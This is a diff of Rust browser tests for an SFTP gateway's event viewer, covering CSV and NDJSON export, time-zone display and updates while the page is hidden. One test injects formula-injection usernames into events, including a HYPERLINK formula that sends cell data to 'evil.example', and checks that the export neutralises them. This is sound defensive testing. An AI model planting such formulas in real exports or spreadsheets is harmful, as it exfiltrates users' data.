@@ -2,6 +2,10 @@
 
 use std::fs;
 
+use chrono::{DateTime, FixedOffset, Utc};
+use serde_json::json;
+
+use crate::old::{event, place_with};
 use crate::place::Place;
 use crate::support::process::LIMIT;
 use crate::support::sftp::Sftp;
@@ -108,4 +112,115 @@ fn what_is_filtered_is_exported() {
     // The API gives the same table.
     let query = "return fetch('/api/v1/events?activity=open,close&format=csv').then((answer) => answer.text())";
     assert_eq!(browser.script(query), table);
+}
+
+/// Names come from clients, of users who do not exist as well.
+#[test]
+fn no_cell_of_an_exported_table_is_computed_by_a_spreadsheet() {
+    let began: DateTime<Utc> = "2026-01-01T08:00:00Z".parse().unwrap();
+    let names =
+        ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "plain", "a=b"];
+    let lines = names.iter().enumerate().map(|(number, name)| {
+        let more = json!({ "user": name, "source-ip": "192.0.2.7", "reason": "unknown-user", "message": name, "new-logical-path": name });
+        event(began, number, "AUTH_FAILURE", more)
+    });
+    let lines: Vec<_> = lines.collect();
+    let place = place_with(&lines);
+    let client = place.gateway.keyless("=1+1");
+    crate::support::process::run(client.command("sftp").arg(client.host())).failed();
+    place.gateway.events.await_event("AUTH_FAILURE", |event| event["user"] == "=1+1");
+    let browser = place.browser();
+    place.open(&browser, "/events?view=logins");
+    browser.await_text(".tools", &format!("All {}", names.len() + 1));
+    browser.click("button[aria-label='Export as CSV']");
+    let exported = fs::read_to_string(browser.download(".csv")).unwrap();
+    let query =
+        "return fetch('/api/v1/events?activity=connected,auth_failure&format=csv').then((answer) => answer.text())";
+    assert_eq!(browser.script(query), exported, "the API and the page give the same table");
+    let mut users = Vec::new();
+    for row in csv::Reader::from_reader(exported.as_bytes()).records() {
+        let row = row.unwrap();
+        let is_computed = |cell: &str| cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']);
+        assert!(!row.iter().any(is_computed), "{row:?}");
+        users.push(row[3].to_owned());
+    }
+    let harmless =
+        |name: &&str| if name.starts_with(char::is_alphabetic) { (*name).to_owned() } else { format!("'{name}") };
+    let expected: Vec<String> = ["=1+1"].iter().chain(names.iter().rev()).map(harmless).collect();
+    assert_eq!(users, expected);
+    // The lines are the lines.
+    browser.click("button[aria-label='Export as NDJSON']");
+    let exported = fs::read_to_string(browser.download(".ndjson")).unwrap();
+    assert_eq!(exported.lines().last(), Some(lines[0].to_string().as_str()));
+}
+
+#[test]
+fn times_are_local_and_utc_on_hover() {
+    let place = Place::start();
+    let mut alice = Sftp::connect(&place.alice, LIMIT);
+    alice.make_directory("/a").unwrap();
+    let made = place.gateway.events.await_event("MKDIR", |_| true);
+    let browser = place.browser();
+    browser.timezone("Asia/Kolkata");
+    let recorded = made["timestamp"].as_str().unwrap();
+    let utc = format!("{} UTC", recorded.replace('T', " ").replace('Z', ""));
+    let there: DateTime<FixedOffset> =
+        DateTime::parse_from_rfc3339(recorded).unwrap().with_timezone(&FixedOffset::east_opt(19_800).unwrap());
+    let times = |css: &str| {
+        let script = format!(
+            "const time = document.querySelector({});
+             return [time.title, time.innerText, document.elementFromPoint(time.getBoundingClientRect().left + 2,
+               time.getBoundingClientRect().top + 2).closest('[title]')?.title]",
+            json!(css)
+        );
+        browser.script(&script)
+    };
+    place.open(&browser, "/events?activity=MKDIR");
+    browser.await_text(FIRST, "Folder created");
+    let shown = format!("{} {}", there.format("%m-%d"), there.format("%H:%M:%S%.3f"));
+    assert_eq!(times(&format!("{FIRST} time")), json!([utc, shown, utc]));
+    browser.click(FIRST);
+    let details = browser.await_text(".details", "event-id");
+    assert!(
+        details.contains(&format!("{} here", there.format("%Y-%m-%d %H:%M:%S"))) && details.contains(&utc),
+        "{details}"
+    );
+    browser.click(".details a[href^='/sessions/']");
+    browser.await_text(".steps", "Folder created");
+    let step = "return [...document.querySelectorAll('.steps .rows .row')].find((row) => row.innerText.includes('Folder')).querySelector('.time').title";
+    assert_eq!(browser.script(step), json!(utc));
+    place.open(&browser, "/partners/alice");
+    browser.await_text(".attempts", "Logged in");
+    let login = place.gateway.events.await_event("CONNECTED", |_| true);
+    let title = times(".attempts time")[0].as_str().unwrap().to_owned();
+    let recorded = login["timestamp"].as_str().unwrap();
+    // A login is shown to the second.
+    assert!(title.ends_with(" UTC") && title.starts_with(&recorded.replace('T', " ")[..19]), "{title}: {recorded}");
+}
+
+/// Nothing has come live yet, so that only what the page shows says how far it is.
+#[test]
+fn what_happened_while_nobody_looked_is_there_afterwards() {
+    let place = Place::start();
+    let mut alice = Sftp::connect(&place.alice, LIMIT);
+    alice.make_directory("/before").unwrap();
+    place.gateway.events.await_event("MKDIR", |_| true);
+    let browser = place.browser();
+    place.open(&browser, "/events?activity=MKDIR");
+    browser.await_text(FIRST, "/before");
+    let look = |is_hidden: bool| {
+        browser.script(&format!(
+            "Object.defineProperty(document, 'hidden', {{ configurable: true, get: () => {is_hidden} }});
+             document.dispatchEvent(new Event('visibilitychange'))"
+        ));
+    };
+    look(true);
+    alice.make_directory("/meanwhile").unwrap();
+    place.gateway.events.await_event("MKDIR", |event| event["logical-path"] == "/meanwhile");
+    look(false);
+    browser.await_text(FIRST, "/meanwhile");
+    alice.make_directory("/after").unwrap();
+    browser.await_text(FIRST, "/after");
+    assert_eq!(browser.count(FIRST), 3, "each once");
+    place.assert_clean(&browser);
 }
